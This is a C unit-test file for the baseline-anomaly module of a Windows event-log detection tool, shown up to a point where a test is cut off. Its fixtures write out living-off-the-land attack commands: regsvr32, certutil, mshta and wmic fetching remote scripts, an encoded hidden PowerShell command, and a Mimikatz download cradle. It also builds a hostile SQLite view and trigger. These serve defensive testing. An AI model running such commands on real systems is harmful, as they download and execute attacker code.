/*
 * check_base.c -- tests for src/baseline/: CommandLineToArgvW splitting,
 * argument and file shapes, IP classes, watched.yml loading and binary
 * identification, features, and scoring on generated history (benign
 * runs of every watched binary on several hosts, then attack runs), in
 * both modes (baseline DB and stacking), and merge == combined learn.
 */
#include <check.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "base_events.h"
#include "baseline/baseline.h"
#include "correlate.h"
#include "ev_util.h"
#include "findings.h"

static struct base_config *cfg;

static void
load_cfg(void)
{
	struct ev_err err = EV_ERR_INIT;
	const char *top = getenv("top_srcdir");
	char path[4096];

	snprintf(path, sizeof(path), "%s/rules/watched.yml", top ? top : ".");
	if (base_config_load(path, &cfg, &err) != 0)
		ck_abort_msg("cannot load %s: %s", path, err.msg);
}

static void
free_cfg(void)
{
	base_config_free(cfg);
	cfg = NULL;
}

/* ---- argv -------------------------------------------------------- */

static const struct {
	const char	*cmd;
	const char	*want[6];	/* NULL-terminated */
} argv_cases[] = {
	{ "a.exe b c", { "a.exe", "b", "c" } },
	{ "  a.exe", { "", "a.exe" } },
	{ "\"C:\\Program Files\\x.exe\" \"a b\" c",
	    { "C:\\Program Files\\x.exe", "a b", "c" } },
	/* argv[0]: no escapes, ends at its closing quote */
	{ "\"C:\\a b\\x.exe\"y z", { "C:\\a b\\x.exe", "y", "z" } },
	{ "C:\\a\\\"b c", { "C:\\a\\\"b", "c" } },
	/* 2n+1 backslashes + quote: n backslashes and a literal quote */
	{ "x a\\\\\\\"b c", { "x", "a\\\"b", "c" } },
	/* 2n backslashes + quote: n backslashes, quote toggles */
	{ "x a\\\\\\\\\"b c\" d", { "x", "a\\\\b c", "d" } },
	/* backslashes not before a quote are literal */
	{ "x a\\b\\\\c", { "x", "a\\b\\\\c" } },
	/* "" inside quotes is a literal quote */
	{ "x \"a\"\"b\" c", { "x", "a\"b c" } },
	{ "x \"\" y", { "x", "", "y" } },
	{ "x\t\"a b\"c\td", { "x", "a bc", "d" } },
	{ "", { "" } },
};

START_TEST(argv_split)
{
	char **argv;
	size_t argc, n = 0;

	ck_assert_int_eq(base_argv(argv_cases[_i].cmd, &argv, &argc), 0);
	while (argv_cases[_i].want[n] != NULL)
		n++;
	ck_assert_msg(argc == n, "%s: %zu args, want %zu",
	    argv_cases[_i].cmd, argc, n);
	for (size_t i = 0; i < n; i++)
		ck_assert_msg(strcmp(argv[i], argv_cases[_i].want[i]) == 0,
		    "%s: argv[%zu] '%s', want '%s'", argv_cases[_i].cmd, i,
		    argv[i], argv_cases[_i].want[i]);
	ck_assert_ptr_null(argv[argc]);
	base_argv_free(argv);
}
END_TEST

START_TEST(argv_bounds)
{
	struct ev_buf b = EV_BUF_INIT;
	char **argv;
	size_t argc;

	for (int i = 0; i < 2000; i++)
		ev_buf_adds(&b, " \"a\\\"");
	ck_assert_int_eq(base_argv(b.buf, &argv, &argc), 0);
	ck_assert_uint_le(argc, BASE_MAX_ARGS + 1);
	base_argv_free(argv);
	ev_buf_release(&b);
}
END_TEST

/* ---- shapes ------------------------------------------------------ */

static const struct {
	const char	*cmdline;
	bool		 comma;
	const char	*shape;
} shape_cases[] = {
	{ "rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x1234.dll,#1",
	    true, "<user-temp>\\*.dll,#<n>" },
	{ "rundll32.exe \"C:\\Users\\amy\\AppData\\Local\\Temp\\tmp_9f.dll\",#1",
	    true, "<user-temp>\\*.dll,#<n>" },
	{ "rundll32.exe sh^ell32.dll,Con^trol_RunDLL desk.cpl", true,
	    "shell32.dll,control_rundll desk.cpl" },
	{ "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
	    true, "<system32>\\*.dll,control_rundll" },
	{ "regsvr32.exe /s /n /u /i:http://evil.example/a.sct scrobj.dll",
	    false, "/s /n /u /i:<url:http> scrobj.dll" },
	{ "regsvr32 /s \"C:\\Program Files (x86)\\Vendor\\comp.dll\"", false,
	    "/s <program-files>\\*.dll" },
	{ "certutil.exe \xe2\x80\x93urlcache \xe2\x80\x94split -f "
	    "http://1.2.3.4/a.exe C:\\Users\\Public\\a.exe", false,
	    "-urlcache -split -f <url:http> <users-public>\\*.exe" },
	{ "certutil -decode %TEMP%\\a.b64 %temp%\\a.exe", false,
	    "-decode <user-temp>\\*.b64 <user-temp>\\*.exe" },
	{ "mshta.exe javascript:a=GetObject(\"script:http://x/a.sct\").Exec()",
	    false, "<url:javascript>" },
	{ "mshta.exe \"C:\\Program Files\\App\\help.hta\"", false,
	    "<program-files>\\*.hta" },
	{ "wmic.exe os get /format:\"https://evil/a.xsl\"", false,
	    "os get /format:<url:https>" },
	{ "cscript.exe //nologo //E:JScript C:\\ProgramData\\x\\run.js", false,
	    "//nologo //e:jscript <programdata>\\*.js" },
	{ "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"
	    "AGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", false,
	    "-nop -w hidden -enc <base64>" },
	{ "x.exe {12345678-90AB-cdef-1234-1234567890ab} /id:4711 0x1F "
	    "deadbeef0123", false, "{<guid>} /id:<n> <hex> <hex>" },
	{ "x.exe \\\\10.0.0.5\\share\\x.dll 10.0.0.5:8080 192.168.1.1", false,
	    "<unc>\\*.dll <ip>:<n> <ip>" },
	{ "x.exe \\\\?\\C:\\Windows\\System32\\a.dll C:\\Windows\\Temp\\b.dll "
	    "D:\\tools\\c.exe C:\\Users\\bob\\Desktop\\a.hta", false,
	    "<system32>\\*.dll <windir-temp>\\*.dll <other>\\*.exe "
	    "<user-profile>\\*.hta" },
	{ "x.exe C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe "
	    "C:/Windows/SysWOW64/x.ocx .\\rel\\a.txt", false,
	    "<dotnet>\\*.exe <syswow64>\\*.ocx <relative>\\*.txt" },
	{ "x.exe - -- /? \"\" C:\\Windows\\", false, "- -- /?  <windir>\\" },
	/* the script: moniker (pubprn.vbs, GetObject) */
	{ "cscript pubprn.vbs 127.0.0.1 script:https://e/a.sct", false,
	    "pubprn.vbs <ip> <url:script>" },
	/* alternate data streams, root-level 8.3 short names */
	{ "rundll32.exe C:\\Users\\Public\\doc.txt:p.dll,Start", true,
	    "<users-public>\\*.txt:*.dll,start" },
	{ "x.exe C:\\PROGRA~3\\a.dll C:\\Users\\ADMINI~1\\AppData\\Local"
	    "\\Temp\\b.dll C:\\tools~x\\c.dll", false,
	    "<short-name>\\*.dll <user-temp>\\*.dll <other>\\*.dll" },
	{ "x.exe", false, "" },
	{ "x.exe Shell32 2nd 64bit port=443 #12 seg9 Job2024.txt win64", false,
	    "shell32 2nd 64bit port=<n> #<n> seg<n> job<n>.txt win64" },
	{ "x.exe \"IEX (New-Object Net.WebClient).DownloadString('https://raw."
	    "githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration"
	    "/Invoke-Mimikatz.ps1')\"", false, "iex (new-object net.webclient)."
	    "downloadstring('https://raw.githubusercontent.com/mattifestation/"
	    "powersploit/master/exfiltration/invoke-mimikatz.ps1')" },
};

START_TEST(shape_cmdline)
{
	struct ev_buf b = EV_BUF_INIT;

	base_shape_cmdline(shape_cases[_i].cmdline, shape_cases[_i].comma, &b);
	ck_assert(!ev_buf_failed(&b));
	ck_assert_msg(strcmp(b.buf, shape_cases[_i].shape) == 0,
	    "%s:\n got  '%s'\n want '%s'", shape_cases[_i].cmdline, b.buf,
	    shape_cases[_i].shape);
	ev_buf_release(&b);
}
END_TEST

static const struct {
	const char	*arg, *cwd;
	bool		 comma, search;
	const char	*want;		/* NULL: not resolved */
} resolve_cases[] = {
	{ "evil.csproj", "C:\\Users\\bob\\Desktop\\", false, false,
	    "C:\\Users\\bob\\Desktop\\evil.csproj" },
	{ ".\\x.dll", "C:\\tools", false, false, "C:\\tools\\x.dll" },
	{ "sub\\x.xml", "C:\\tools\\", false, false, "C:\\tools\\sub\\x.xml" },
	{ "payload.dll,Start", "C:\\x\\", true, true, NULL },
	{ "..\\p.dll,Start", "C:\\x\\y\\", true, true,
	    "C:\\x\\y\\..\\p.dll,Start" },
	{ "m.vbs", "C:\\tool-test\\", false, false, "C:\\tool-test\\m.vbs" },
	{ "C:\\a\\b.dll", "C:\\x\\", false, false, NULL },
	{ "/s", "C:\\x\\", false, false, NULL },
	{ "http://a/b.sct", "C:\\x\\", false, false, NULL },
	{ "list", "C:\\x\\", false, false, NULL },
	{ "a.dll", NULL, false, false, NULL },
	{ "a.dll", "relative\\dir", false, false, NULL },
	{ "a b.dll", "C:\\x", false, false, NULL },
};

START_TEST(resolve_arg)
{
	char *got = base_resolve_arg(resolve_cases[_i].arg,
	    resolve_cases[_i].cwd, resolve_cases[_i].comma,
	    resolve_cases[_i].search);

	if (resolve_cases[_i].want == NULL)
		ck_assert_msg(got == NULL, "%s: got '%s'",
		    resolve_cases[_i].arg, got);
	else
		ck_assert_msg(got != NULL && strcmp(got,
		    resolve_cases[_i].want) == 0, "%s: got '%s' want '%s'",
		    resolve_cases[_i].arg, got ? got : "NULL",
		    resolve_cases[_i].want);
	free(got);
}
END_TEST

START_TEST(shape_bounded)
{
	struct ev_buf b = EV_BUF_INIT, in = EV_BUF_INIT;

	ev_buf_adds(&in, "x.exe ");
	for (int i = 0; i < 1000; i++)
		ev_buf_adds(&in, "word_");
	base_shape_cmdline(in.buf, false, &b);
	ck_assert_uint_le(b.len, BASE_MAX_SHAPE + 5);
	ck_assert(strstr(b.buf, "<...>") != NULL);
	ev_buf_release(&b);
	ev_buf_release(&in);
}
END_TEST

static const struct {
	const char	*path;
	const char	*shape;
} file_cases[] = {
	{ "C:\\Windows\\System32\\ntdll.dll", "<system32>\\ntdll.dll" },
	{ "C:\\WINDOWS\\explorer.exe", "<windir>\\explorer.exe" },
	{ "C:\\Users\\x\\AppData\\Local\\Temp\\svc.exe", "<user-temp>\\*.exe" },
	{ "\\\\srv\\share\\evil.dll", "<unc>\\*.dll" },
	{ "C:\\Program Files\\A\\{12345678-90ab-cdef-1234-1234567890ab}.dll",
	    "<program-files>\\{<guid>}.dll" },
	{ "\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe",
	    "<system32>\\cmd.exe" },
	{ "C:\\Users\\bob\\AppData\\Roaming\\x\\y.exe", "<user-profile>\\y.exe" },
};

START_TEST(shape_file)
{
	struct ev_buf b = EV_BUF_INIT;

	base_shape_file(file_cases[_i].path, &b);
	ck_assert_msg(strcmp(b.buf, file_cases[_i].shape) == 0,
	    "%s: got '%s' want '%s'", file_cases[_i].path, b.buf,
	    file_cases[_i].shape);
	ev_buf_release(&b);
}
END_TEST

static const struct {
	const char *ip, *cls;
} ip_cases[] = {
	{ "127.0.0.1", "loopback" }, { "10.1.2.3", "private" },
	{ "172.16.0.1", "private" }, { "172.32.0.1", "public" },
	{ "192.168.0.1", "private" }, { "169.254.1.1", "link-local" },
	{ "8.8.8.8", "public" }, { "224.0.0.251", "multicast" },
	{ "0.0.0.0", "unspecified" }, { "::1", "loopback" },
	{ "fe80::1", "link-local" }, { "fd00::1", "private" },
	{ "2001:db8::1", "public" }, { "::ffff:10.0.0.1", "private" },
	{ "not-an-ip", NULL }, { "", NULL },
};

START_TEST(ip_class)
{
	const char *c = base_ip_class(ip_cases[_i].ip);

	if (ip_cases[_i].cls == NULL)
		ck_assert_ptr_null(c);
	else
		ck_assert_msg(c != NULL && strcmp(c, ip_cases[_i].cls) == 0,
		    "%s: %s", ip_cases[_i].ip, c ? c : "NULL");
}
END_TEST

/* ---- config ------------------------------------------------------ */

START_TEST(config_shipped)
{
	static const char *const must[] = { "msbuild.exe", "mshta.exe",
	    "regsvr32.exe", "rundll32.exe", "certutil.exe", "wmic.exe",
	    "msxsl.exe", "cmstp.exe", "scriptrunner.exe", "pwsh.dll" };

	ck_assert_uint_ge(cfg->nbins, 35);
	ck_assert_uint_eq(cfg->min_history, 20);
	for (size_t i = 0; i < NELEM(must); i++)
		ck_assert_msg(ev_map_get(&cfg->names, must[i],
		    strlen(must[i])) != NULL, "%s not watched", must[i]);
	ck_assert(cfg->level_score[EV_LEVEL_LOW] > 0);
}
END_TEST

static const struct {
	const char *text, *msg;
} bad_configs[] = {
	{ "binaries: []\n", "no binaries" },
	{ "binaries: [a.exe]\nsettings: { alpha: -1 }\n", "bad number" },
	{ "binaries: [a.exe]\nsettings: { renamed_level: huge }\n",
	    "unknown level" },
	{ "binaries: [a.exe]\nsettings: { levels: { low: 9, medium: 3 } }\n",
	    "must not decrease" },
	{ "binaries: [a.exe, A.EXE]\n", "listed twice" },
	{ "binaries: [{ nmae: a.exe }]\n", "unknown or bad key" },
	{ "other: 1\n", "unknown key" },
	{ "binaries: [{ technique: T1 }]\n", "needs a" },
	{ "binaries: [a.exe\n", "" },
	{ "settings: { weights: { argz: 1 } }\nbinaries: [a.exe]\n",
	    "unknown feature" },
};

START_TEST(config_bad)
{
	struct ev_err err = EV_ERR_INIT;
	struct base_config *c = NULL;

	ck_assert_int_eq(base_config_parse(bad_configs[_i].text,
	    strlen(bad_configs[_i].text), "t.yml", &c, &err), EV_ERULE);
	ck_assert_ptr_null(c);
	ck_assert_msg(strstr(err.msg, bad_configs[_i].msg) != NULL &&
	    strncmp(err.msg, "t.yml:", 6) == 0, "%s", err.msg);
}
END_TEST

/* ---- generated history ------------------------------------------- */

static struct ev_arena arena;
static struct ev_event **evs;
static size_t nev, evcap;
static uint64_t recno, tick;

static void
ev_setup(void)
{
	load_cfg();
	ev_arena_init(&arena);
	evs = NULL;
	nev = evcap = 0;
	recno = 1;
	tick = 0;
}

static void
ev_teardown(void)
{
	free(evs);
	ev_arena_release(&arena);
	free_cfg();
}

static struct ev_event *
push(struct ev_event *ev)
{
	if (nev == evcap) {
		evcap = evcap ? evcap * 2 : 256;
		evs = realloc(evs, evcap * sizeof(*evs));
		ck_assert_ptr_nonnull(evs);
	}
	ev->seq = (uint32_t)nev;
	evs[nev++] = ev;
	return ev;
}

/* a Sysmon 1 process creation; returns its GUID in guid[40] */
static struct ev_event *
proc(const char *host, const char *image, const char *ofn,
    const char *cmdline, const char *parent, char *guid)
{
	char pid[16];

	tick += TEV_SECOND;
	snprintf(guid, 40, "{00000000-0000-0000-0000-%012llx}",
	    (unsigned long long)recno);
	snprintf(pid, sizeof(pid), "%llu", (unsigned long long)recno + 4);
	return push(TEV_SYSMON(&arena, 1, host, tick, recno++, "ProcessGuid",
	    guid, "ProcessId", pid, "Image", image, "OriginalFileName", ofn,
	    "CommandLine", cmdline, "ParentImage", parent, NULL));
}

static void
load(const char *host, const char *guid, const char *dll)
{
	tick += 10;
	push(TEV_SYSMON(&arena, 7, host, tick, recno++, "ProcessGuid", guid,
	    "ImageLoaded", dll, NULL));
}

static void
net(const char *host, const char *guid, const char *ip, const char *port)
{
	tick += 10;
	push(TEV_SYSMON(&arena, 3, host, tick, recno++, "ProcessGuid", guid,
	    "Protocol", "tcp", "Initiated", "true", "DestinationIp", ip,
	    "DestinationPort", port, NULL));
}

static const char *const hosts[] = { "WS01", "WS02", "WS03", "SRV01",
    "SRV02" };

#define SYS32	"C:\\Windows\\System32\\"
#define DOTNET	"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"

/* n benign runs per host of every watched binary (generic) and of the
 * ones with a specific shape */
static void
benign(int nperhost, size_t h0, size_t h1)
{
	char guid[40], cmd[512], img[256], ofn[128];

	for (size_t h = h0; h < h1; h++) {
		for (int i = 0; i < nperhost; i++) {
			const char *host = hosts[h];
			unsigned r = (unsigned)(h * 1000 + (size_t)i) * 2654435761u;

			for (size_t b = 0; b < cfg->nbins; b++) {
				const char *name = cfg->bins[b].name;

				if (strcmp(name, "rundll32.exe") == 0 ||
				    strcmp(name, "regsvr32.exe") == 0)
					continue;
				snprintf(img, sizeof(img), SYS32 "%s", name);
				snprintf(ofn, sizeof(ofn), "%s", name);
				ofn[0] = (char)(ofn[0] - 32);
				snprintf(cmd, sizeof(cmd), "\"%s\" /quiet "
				    "C:\\ProgramData\\Vendor\\job%u.cfg /id:%u",
				    img, r % 9973, r % 77);
				proc(host, img, ofn, cmd, SYS32 "svchost.exe",
				    guid);
			}
			/* rundll32: a system dll with a named export */
			snprintf(cmd, sizeof(cmd), "rundll32.exe "
			    "C:\\Windows\\System32\\shell32.dll,Control_RunDLL "
			    "C:\\Users\\u%u\\AppData\\Local\\Temp\\x%u.cpl",
			    r % 13, r % 1000);
			proc(host, SYS32 "rundll32.exe", "RUNDLL32.EXE", cmd,
			    "C:\\Windows\\explorer.exe", guid);
			load(host, guid, SYS32 "shell32.dll");
			load(host, guid, SYS32 "ntdll.dll");
			net(host, guid, "10.0.0.5", "445");
			/* regsvr32: silent registration of installed dlls */
			snprintf(cmd, sizeof(cmd), "regsvr32.exe /s "
			    "\"C:\\Program Files\\Vendor\\comp%u.dll\"", r % 50);
			proc(host, SYS32 "regsvr32.exe", "REGSVR32.EXE", cmd,
			    "C:\\Program Files\\Vendor\\setup.exe", guid);
		}
	}
}

struct attack {
	const char	*image, *ofn, *cmd, *parent;
	const char	*binary;	/* expected binary */
	const char	*expect;	/* text the details must hold */
};

static const struct attack attacks[] = {
	{ SYS32 "rundll32.exe", "RUNDLL32.EXE",
	    "rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\p81.dll,#1",
	    "C:\\Windows\\System32\\cmd.exe", "rundll32.exe",
	    "argument `<user-temp>\\*.dll,#<n>` never seen in " },
	{ SYS32 "regsvr32.exe", "REGSVR32.EXE",
	    "regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll",
	    "C:\\Windows\\System32\\wscript.exe", "regsvr32.exe",
	    "argument `/i:<url:http>` never seen in " },
	{ SYS32 "certutil.exe", "CertUtil.exe",
	    "certutil.exe -urlcache -split -f http://1.2.3.4/a.exe "
	    "C:\\Users\\Public\\a.exe", SYS32 "svchost.exe", "certutil.exe",
	    "argument `-urlcache` never seen in " },
	{ SYS32 "mshta.exe", "MSHTA.EXE",
	    "mshta.exe javascript:a=GetObject(\"script:http://x/a\").Exec();",
	    "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "mshta.exe",
	    "parent `<program-files>\\winword.exe` never seen in " },
	{ "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
	    "MSBuild.exe", "MSBuild.exe C:\\Users\\bob\\AppData\\Local\\Temp"
	    "\\build.xml", SYS32 "svchost.exe", "msbuild.exe",
	    "image path `<dotnet>\\msbuild.exe` never seen in " },
	{ SYS32 "wbem\\WMIC.exe", "wmic.exe",
	    "wmic.exe os get /format:\"http://evil/a.xsl\"",
	    SYS32 "svchost.exe", "wmic.exe",
	    "argument `/format:<url:http>` never seen in " },
};

/* The attack runs; the rundll32 one loads a temp dll and calls out. */
static void
attack_runs(const char *host)
{
	char guid[40];

	for (size_t i = 0; i < NELEM(attacks); i++) {
		proc(host, attacks[i].image, attacks[i].ofn, attacks[i].cmd,
		    attacks[i].parent, guid);
		if (i == 0) {
			load(host, guid, SYS32 "ntdll.dll");
			load(host, guid,
			    "C:\\Users\\bob\\AppData\\Local\\Temp\\p81.dll");
			net(host, guid, "203.0.113.9", "443");
		}
	}
	/* renamed rundll32 (same benign arguments) */
	proc(host, "C:\\Users\\x\\AppData\\Local\\Temp\\svc.exe",
	    "RUNDLL32.EXE", "svc.exe C:\\Windows\\System32\\shell32.dll,"
	    "Control_RunDLL C:\\Users\\u1\\AppData\\Local\\Temp\\x1.cpl",
	    "C:\\Windows\\explorer.exe", guid);
}

static const struct base_finding *
finding_for(const struct base_result *r, const struct ev_event *ev,
    enum base_finding_kind kind)
{
	for (size_t i = 0; i < r->nfindings; i++)
		if (r->findings[i].ev == ev && r->findings[i].kind == kind)
			return &r->findings[i];
	return NULL;
}

/* the attack events from first on are flagged, nothing before them */
static void
check_result(const struct base_result *r, size_t first, bool stacking)
{
	size_t a = 0;

	for (size_t i = 0; i < r->nfindings; i++)
		ck_assert_msg(r->findings[i].ev->seq >= first,
		    "benign invocation flagged: %s: %s",
		    ev_col(r->findings[i].ev, EV_COL_COMMAND_LINE),
		    r->findings[i].details);
	for (size_t i = first; i < nev; i++) {
		const struct ev_event *ev = evs[i];
		const struct base_finding *f;

		if (ev->kind != EV_KIND_PROCESS)
			continue;
		if (a == NELEM(attacks)) {
			f = finding_for(r, ev, BASE_FINDING_RENAMED);
			ck_assert_msg(f != NULL, "renamed binary not flagged");
			ck_assert_str_eq(f->binary, "rundll32.exe");
			ck_assert_int_eq(f->level, EV_LEVEL_HIGH);
			ck_assert(strstr(f->title, "svc.exe") != NULL);
			/* its image path is new as well */
			f = finding_for(r, ev, BASE_FINDING_UNUSUAL);
			ck_assert(f != NULL && strstr(f->details,
			    "image path `<user-temp>\\*.exe`") != NULL);
			continue;
		}
		f = finding_for(r, ev, BASE_FINDING_UNUSUAL);
		for (size_t k = 0; f == NULL && k < r->nfindings; k++)
			fprintf(stderr, "finding: %s\n", r->findings[k].details);
		ck_assert_msg(f != NULL, "attack not flagged: %s",
		    attacks[a].cmd);
		ck_assert_str_eq(f->binary, attacks[a].binary);
		ck_assert_msg(strstr(f->details, attacks[a].expect) != NULL,
		    "%s:\n details '%s'\n want '%s'", attacks[a].cmd,
		    f->details, attacks[a].expect);
		ck_assert(f->level >= EV_LEVEL_LOW);
		ck_assert(f->nnews > 0 && f->news[0].bits > 0);
		ck_assert(strstr(f->details, stacking ? "other invocations" :
		    "prior invocations") != NULL);
		a++;
	}
	ck_assert_uint_eq(a, NELEM(attacks));
}

START_TEST(score_stacking)
{
	struct base_result r;
	struct ev_err err = EV_ERR_INIT;
	struct corr *corr;
	const struct base_finding *f;
	size_t first;

	benign(6, 0, NELEM(hosts));
	first = nev;
	attack_runs("WS02");
	ck_assert_int_eq(corr_build(evs, nev, &corr, &err), 0);
	ck_assert_int_eq(base_score(cfg, NULL, corr, evs, nev, &r, &err), 0);
	check_result(&r, first, true);
	/* the rundll32 attack: argument, parent, module and network */
	f = finding_for(&r, evs[first], BASE_FINDING_UNUSUAL);
	ck_assert_msg(strstr(f->details, "rundll32.exe: argument "
	    "`<user-temp>\\*.dll,#<n>` never seen in 31 other invocations on "
	    "5 hosts") != NULL, "%s", f->details);
	ck_assert(strstr(f->details, "loaded module `<user-temp>\\*.dll`"));
	ck_assert(strstr(f->details, "network destination `public:443/tcp`"));
	ck_assert(strstr(f->details, "parent `<system32>\\cmd.exe`"));
	ck_assert_int_ge(f->level, EV_LEVEL_HIGH);
	ck_assert_uint_eq(f->history, 31);	/* + the renamed one */
	ck_assert_uint_eq(f->hosts, 5);
	ck_assert_uint_eq(r.nunbaselined, 0);
	base_result_release(&r);
	corr_free(corr);
}
END_TEST

START_TEST(score_unbaselined)
{
	struct base_result r;
	struct ev_err err = EV_ERR_INIT;
	struct corr *corr;

	/* 3 hosts x 3 runs: 9 per binary, below min_history */
	benign(3, 0, 3);
	attack_runs("WS02");
	ck_assert_int_eq(corr_build(evs, nev, &corr, &err), 0);
	ck_assert_int_eq(base_score(cfg, NULL, corr, evs, nev, &r, &err), 0);
	/* only the renamed binary is a finding */
	ck_assert_uint_eq(r.nfindings, 1);
	ck_assert_int_eq(r.findings[0].kind, BASE_FINDING_RENAMED);
	ck_assert_uint_eq(r.nunbaselined, cfg->nbins);
	ck_assert_uint_eq(r.scored, 0);
	for (size_t i = 1; i < r.nunbaselined; i++)
		ck_assert(strcmp(r.unbaselined[i - 1].binary,
		    r.unbaselined[i].binary) < 0);
	base_result_release(&r);
	corr_free(corr);
}
END_TEST

static char tmpdir[] = "/tmp/check_base.XXXXXX";

static void
db_setup(void)
{
	ev_setup();
	ck_assert_ptr_nonnull(mkdtemp(tmpdir));
}

static void
db_teardown(void)
{
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
	ck_assert_int_eq(system(cmd), 0);
	strcpy(tmpdir, "/tmp/check_base.XXXXXX");
	ev_teardown();
}

static sqlite3 *
db_new(const char *name)
{
	struct ev_err err = EV_ERR_INIT;
	char path[256];
	sqlite3 *db;

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	ck_assert_msg(base_db_open(path, true, false, &db, &err) == 0, "%s",
	    err.msg);
	return db;
}

static void
learn(sqlite3 *db, size_t from, size_t to)
{
	struct ev_err err = EV_ERR_INIT;
	struct corr *corr;

	ck_assert_int_eq(corr_build(evs + from, to - from, &corr, &err), 0);
	ck_assert_msg(base_learn(db, cfg, corr, evs + from, to - from, &err) ==
	    0, "%s", err.msg);
	corr_free(corr);
}

START_TEST(score_with_db)
{
	struct base_result r;
	struct base_model m;
	struct ev_err err = EV_ERR_INIT;
	struct corr *corr;
	sqlite3 *db = db_new("prior.db");
	size_t first, attack0;

	benign(6, 0, NELEM(hosts));
	learn(db, 0, nev);
	/* new evidence: benign runs (new temp names) and the attacks */
	first = nev;
	benign(2, 1, 3);
	attack0 = nev;
	attack_runs("WS02");
	base_model_init(&m);
	ck_assert_int_eq(base_db_load(db, &m, &err), 0);
	ck_assert_int_eq(corr_build(evs + first, nev - first, &corr, &err), 0);
	ck_assert_int_eq(base_score(cfg, &m, corr, evs + first, nev - first,
	    &r, &err), 0);
	/* the second benign batch is not flagged, the attacks are */
	check_result(&r, attack0, false);
	ck_assert(strstr(r.findings[0].details, "never seen in 30 prior "
	    "invocations on 5 hosts") != NULL);
	base_result_release(&r);
	base_model_release(&m);
	corr_free(corr);
	sqlite3_close(db);
}
END_TEST

static void
dump(sqlite3 *db, struct ev_buf *out)
{
	static const char *const q[] = {
		"SELECT binary, host, count, first, last FROM invocations"
		" ORDER BY 1, 2",
		"SELECT binary, feature, value, host, count, first, last"
		" FROM features ORDER BY 1, 2, 3, 4",
	};
	sqlite3_stmt *st;

	for (size_t i = 0; i < NELEM(q); i++) {
		ck_assert_int_eq(sqlite3_prepare_v2(db, q[i], -1, &st, NULL),
		    SQLITE_OK);
		while (sqlite3_step(st) == SQLITE_ROW) {
			for (int c = 0; c < sqlite3_column_count(st); c++)
				ev_buf_addf(out, "%s|",
				    sqlite3_column_text(st, c));
			ev_buf_addc(out, '\n');
		}
		sqlite3_finalize(st);
	}
}

START_TEST(merge_equals_learn)
{
	struct ev_err err = EV_ERR_INIT;
	struct ev_buf da = EV_BUF_INIT, db_ = EV_BUF_INIT;
	sqlite3 *a, *b, *all, *merged;
	char pa[256], pb[256];
	size_t half;

	benign(3, 0, 3);	/* A: WS01..WS03 */
	half = nev;
	benign(4, 2, 5);	/* B: WS03..SRV02 (WS03 in both) */
	attack_runs("WS03");
	a = db_new("a.db");
	b = db_new("b.db");
	all = db_new("all.db");
	merged = db_new("merged.db");
	learn(a, 0, half);
	learn(b, half, nev);
	learn(all, 0, nev);
	snprintf(pa, sizeof(pa), "%s/a.db", tmpdir);
	snprintf(pb, sizeof(pb), "%s/b.db", tmpdir);
	ck_assert_msg(base_db_merge(merged, pa, &err) == 0, "%s", err.msg);
	ck_assert_msg(base_db_merge(merged, pb, &err) == 0, "%s", err.msg);
	dump(all, &da);
	dump(merged, &db_);
	ck_assert_uint_gt(da.len, 1000);
	ck_assert_str_eq(da.buf, db_.buf);
	/* learning in two steps into one DB is the same too */
	ev_buf_reset(&db_);
	learn(a, half, nev);
	dump(a, &db_);
	ck_assert_str_eq(da.buf, db_.buf);
	/* a file that is not a baseline is refused */
	ck_assert_int_ne(base_db_merge(merged, "/nonexistent/x.db", &err), 0);
	ev_buf_release(&da);
	ev_buf_release(&db_);
	sqlite3_close(a);
	sqlite3_close(b);
	sqlite3_close(all);
	sqlite3_close(merged);
}
END_TEST

/*
 * hostile_0008_baseline_budget (2026-12, issue 15 #11): a statement that
 * never ends on a baseline connection is stopped by the work bound, and
 * a baseline holding a view or a trigger is refused when opened or
 * merged (the reproducer: `features` replaced by a recursive-CTE view).
 */
START_TEST(hostile_0008_baseline_budget)
{
	struct ev_err err = EV_ERR_INIT;
	char path[256];
	sqlite3 *db = db_new("h.db"), *h;
	int rc;

	rc = sqlite3_exec(db, "WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL"
	    " SELECT i + 1 FROM r) SELECT count(*) FROM r", NULL, NULL, NULL);
	ck_assert_int_eq(rc, SQLITE_INTERRUPT);
	sqlite3_close(db);
	/* the file made hostile behind evtxhunt's back */
	snprintf(path, sizeof(path), "%s/h.db", tmpdir);
	ck_assert_int_eq(sqlite3_open(path, &h), SQLITE_OK);
	ck_assert_int_eq(sqlite3_exec(h, "ALTER TABLE features RENAME TO f0;"
	    "CREATE VIEW features AS WITH RECURSIVE r(i) AS (SELECT 1 UNION"
	    " ALL SELECT i + 1 FROM r) SELECT 'a' AS binary, 'b' AS feature,"
	    " 'c' AS value, 'h' AS host, i AS count, 0 AS first, 0 AS last"
	    " FROM r", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(h);
	ck_assert_int_ne(base_db_open(path, false, true, &db, &err), 0);
	ck_assert_msg(strstr(err.msg, "view 'features'") != NULL, "%s",
	    err.msg);
	db = db_new("m.db");
	ev_err_clear(&err);
	ck_assert_int_ne(base_db_merge(db, path, &err), 0);
	ck_assert_msg(strstr(err.msg, "view 'features'") != NULL, "%s",
	    err.msg);
	sqlite3_close(db);
	/* a trigger is refused the same way */
	db = db_new("t.db");
	sqlite3_close(db);
	snprintf(path, sizeof(path), "%s/t.db", tmpdir);
	ck_assert_int_eq(sqlite3_open(path, &h), SQLITE_OK);
	ck_assert_int_eq(sqlite3_exec(h, "CREATE TRIGGER t AFTER INSERT ON"
	    " features BEGIN DELETE FROM invocations; END", NULL, NULL, NULL),
	    SQLITE_OK);
	sqlite3_close(h);
	ev_err_clear(&err);
